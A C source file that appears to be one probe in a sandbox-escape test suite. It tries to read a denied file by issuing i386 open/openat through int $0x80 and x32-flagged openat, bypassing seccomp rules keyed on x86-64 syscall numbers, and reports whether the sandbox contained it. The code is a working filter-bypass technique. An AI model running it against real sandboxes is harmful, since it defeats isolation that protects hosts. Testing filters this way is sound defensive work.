/* Attack: open a denied file through a system call ABI the filter is not
 * written for, where the numbers differ and a rule keyed on the x86-64
 * number of openat never matches.
 *
 * Variants (each in a child process, so a kill ends only the child):
 *   int80   i386 open (eax = 5) through `int $0x80`, the path in memory
 *           below 4 GiB (mmap MAP_32BIT), as a 32-bit pointer;
 *   int80at i386 openat (eax = 295) the same way;
 *   x32     openat with the x32 bit (257 | 0x40000000) through `syscall`.
 * The child reads the fd it got with the native read(2) and sends the
 * bytes to the parent over a pipe.
 *
 * Stops it: layer 3, the guest's filter kills the process on a non-native
 * architecture or an x32 number (libseccomp's bad-arch action,
 * SCMP_ACT_KILL_PROCESS): the child dies by SIGSYS before the open runs.
 * Natively: the i386 open reads the secret (ESCAPED) where the kernel has
 * IA32 emulation. x32 needs CONFIG_X86_X32_ABI and syscall.x32=y, which
 * most kernels lack (ENOSYS): then that variant is only noted, and
 * `foreign_abi TOKEN x32 PATH` prints CONTAINED natively.
 *
 * Usage: foreign_abi TOKEN all|int80|int80at|x32 PATH
 */
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "escape.h"

#define X32_SYSCALL_BIT 0x40000000L
#define I386_OPEN 5
#define I386_OPENAT 295
#define I386_AT_FDCWD (-100)

static long int80(long nr, long a, long b, long c, long d)
{
	long ret = nr;
	__asm__ volatile("int $0x80"
	                 : "+a"(ret)
	                 : "b"(a), "c"(b), "d"(c), "S"(d)
	                 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

/* In the child: the open; then the file's bytes (or "E<errno>") to out. */
static void child(const char *variant, const char *path, int out)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED || strlen(path) >= 4096)
		_exit(3);
	strcpy(low, path);
	long fd;
	if (strcmp(variant, "int80") == 0)
		fd = int80(I386_OPEN, (long)(unsigned long)low, O_RDONLY, 0, 0);
	else if (strcmp(variant, "int80at") == 0)
		fd = int80(I386_OPENAT, I386_AT_FDCWD, (long)(unsigned long)low, O_RDONLY, 0);
	else
		fd = syscall(SYS_openat | X32_SYSCALL_BIT, AT_FDCWD, low, O_RDONLY, 0);
	/* int $0x80 returns -errno in eax; syscall() sets errno. */
	if (strcmp(variant, "x32") != 0 && fd < 0) {
		errno = (int)-fd;
		fd = -1;
	}
	char buf[4096];
	if (fd < 0) {
		int n = snprintf(buf, sizeof(buf), "E%d", errno);
		if (write(out, buf, (size_t)n) < 0)
			_exit(3);
		_exit(0);
	}
	ssize_t n = read_some((int)fd, buf + 1, sizeof(buf) - 1);
	buf[0] = 'D';
	if (n < 0 || write(out, buf, (size_t)n + 1) < 0)
		_exit(3);
	_exit(0);
}

static void try_variant(const char *variant, const char *path)
{
	int p[2];
	if (pipe(p) < 0)
		setup_failed("pipe: %s", strerror(errno));
	pid_t pid = fork();
	if (pid < 0)
		setup_failed("fork: %s", strerror(errno));
	if (pid == 0) {
		close(p[0]);
		child(variant, path, p[1]);
	}
	close(p[1]);
	char buf[4096];
	ssize_t n = read_some(p[0], buf, sizeof(buf));
	close(p[0]);
	int status;
	if (waitpid(pid, &status, 0) < 0)
		setup_failed("waitpid: %s", strerror(errno));
	if (WIFSIGNALED(status)) {
		escape_note("%s: killed by %s", variant, strsignal(WTERMSIG(status)));
		return;
	}
	if (n <= 0 || WEXITSTATUS(status) != 0)
		setup_failed("%s: the child exited %d without an answer", variant,
		             WEXITSTATUS(status));
	if (buf[0] == 'E') {
		escape_note("%s: %s", variant, strerror(atoi(buf + 1)));
		return;
	}
	char *hit = memmem(buf + 1, (size_t)n - 1, escape_token, strlen(escape_token));
	if (hit)
		escaped("%s open of %s: read \"%.*s\"", variant, path, (int)strcspn(hit, "\n"),
		        hit);
	escape_note("%s: opened, no secret", variant);
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "foreign-abi", 2, "all|int80|int80at|x32 PATH");
	const char *which = argv[2], *path = argv[3];
	static const char *const variants[] = {"int80", "int80at", "x32"};
	bool any = false;
	for (size_t i = 0; i < sizeof(variants) / sizeof(variants[0]); i++) {
		if (strcmp(which, "all") != 0 && strcmp(which, variants[i]) != 0)
			continue;
		any = true;
		try_variant(variants[i], path);
	}
	if (!any)
		setup_failed("unknown variant %s", which);
	contained();
}
